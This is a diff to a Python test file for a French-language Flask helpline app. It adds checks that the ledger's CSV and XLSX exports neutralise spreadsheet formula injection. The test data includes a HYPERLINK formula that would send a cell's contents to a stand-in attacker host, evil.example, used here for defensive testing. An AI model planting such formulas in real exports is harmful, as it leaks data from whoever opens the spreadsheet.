@@ -7,6 +7,7 @@ import io
 from datetime import UTC, datetime
 from decimal import Decimal
 
+import openpyxl
 import pytest
 from flask import Flask
 from flask.testing import FlaskClient
@@ -69,6 +70,7 @@ def test_twiml_gets_only_the_harmless_headers(client: FlaskClient, session: Sess
 
 
 def test_the_ledger_export_neutralises_formulas(console: FlaskClient, session: Session) -> None:
+    helpline = make_helpline(session)
     interpreter = add_interpreter(
         session, '=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+33610000001", ["ar"]
     )
@@ -76,6 +78,7 @@ def test_the_ledger_export_neutralises_formulas(console: FlaskClient, session: S
         make_ledger_entry(
             session,
             posted_at=T0,
+            helpline_id=helpline.id,
             interpreter_id=interpreter.id,
             language="ar",
             service_at=T0,
@@ -94,9 +97,16 @@ def test_the_ledger_export_neutralises_formulas(console: FlaskClient, session: S
     for label in ["'+33 1 23", "'-2+3", "'@SUM(A1:A9)", "'\tcalc", "Séance ok"]:
         assert label in text
     assert ";-1,00;" in text  # a negative amount stays a number
+    workbook = openpyxl.load_workbook(io.BytesIO(console.get("/finance/ledger.xlsx").get_data()))
+    cells = [cell for row in workbook["Grand livre"].iter_rows() for cell in row]
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    texts = [cell.value for cell in cells if cell.data_type == "s"]
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"clic")' in texts
+    assert "'@SUM(A1:A9)" in texts and -1 in [cell.value for cell in cells]
 
 
 def _upload(console: FlaskClient, session: Session, raw: bytes) -> tuple[int, str]:
+    make_helpline(session)
     interpreter = add_interpreter(session, "Samira Haddad", "+33610000001", ["ar"])
     make_user(session, "finance", "finance@example.org")
     assert sign_in(console, "finance@example.org") == 302
@@ -110,6 +120,7 @@ def _upload(console: FlaskClient, session: Session, raw: bytes) -> tuple[int, st
             "invoice": (io.BytesIO(raw), "facture.csv"),
         },
         content_type="multipart/form-data",
+        follow_redirects=True,
     )
     return response.status_code, response.get_data(as_text=True)
 
@@ -157,7 +168,7 @@ def test_a_binary_invoice_gets_a_clear_message_not_a_500(
     console: FlaskClient, session: Session, raw: bytes
 ) -> None:
     status, page = _upload(console, session, raw)
-    assert status == 200
+    assert status == 400
     assert "pas un CSV lisible" in page
 
 
@@ -196,7 +207,7 @@ def test_an_out_of_range_provider_id_is_refused_with_a_message(
         },
         content_type="multipart/form-data",
     )
-    assert response.status_code == 200
+    assert response.status_code == 400
     page = response.get_data(as_text=True)
     assert "Choisissez un prestataire et un mois." in page
     assert 'value="2026-11"' in page  # what was typed is kept
